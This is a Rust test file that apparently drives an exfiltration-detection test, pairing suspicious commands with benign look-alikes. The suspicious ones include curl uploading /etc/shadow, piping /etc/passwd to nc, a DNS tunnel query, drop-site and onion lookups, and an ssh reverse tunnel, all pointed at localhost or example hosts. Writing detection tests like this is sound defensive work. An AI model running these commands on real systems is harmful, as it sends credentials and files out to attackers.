//! Data that leaves.

use super::stage::{Act, Stage, act};

pub(crate) const ACTS: &[Act] = &[
    act("Secrets Uploaded", "/act/curl -T /etc/shadow http://127.0.0.1:9/", "/act/curl -fsS http://127.0.0.1:9/shadow"),
    act(
        "File Uploaded",
        "/act/curl --data-binary @/data/dump http://127.0.0.1:9/",
        "/act/curl -F name=x http://127.0.0.1:9/",
    ),
    act(
        "Archive Sent To The Network",
        "tar cf - /etc/passwd | timeout 1 nc 127.0.0.1 9; tar cf - /etc/passwd | nc 127.0.0.1 9; true",
        "tar cf - /etc/passwd | cat > /dev/null",
    ),
    act(
        "Name For A Tunnel Asked For",
        "act ask 1 4d5a90000300000004000000ffff0000b80000000000.00000040000000000000000000000000000000000000e0000000e1fba.t.example.com",
        "act ask 1 a1b2c3d4e5f6a7b8-123456789.eu-central-1.elb.amazonaws.com",
    ),
    act("Unusual Record Asked For", "act ask 10 x.t.example.com", "act ask 16 example.com"),
    act("Drop Site Asked For", "act ask 1 transfer.sh", "act ask 1 mytransfer.shop"),
    act("Hidden Service Reached", "act ask 1 abc.onion", "act ask 1 onion.example.com"),
    act("Tunnel Program Run", "/act/ssh -R 9000:localhost:22 x@127.0.0.1", "/act/ssh x@127.0.0.1 uptime"),
];

#[test]
fn exfiltration() {
    let stage = Stage::new("exfiltration", &[]);
    stage.perform(ACTS);
}
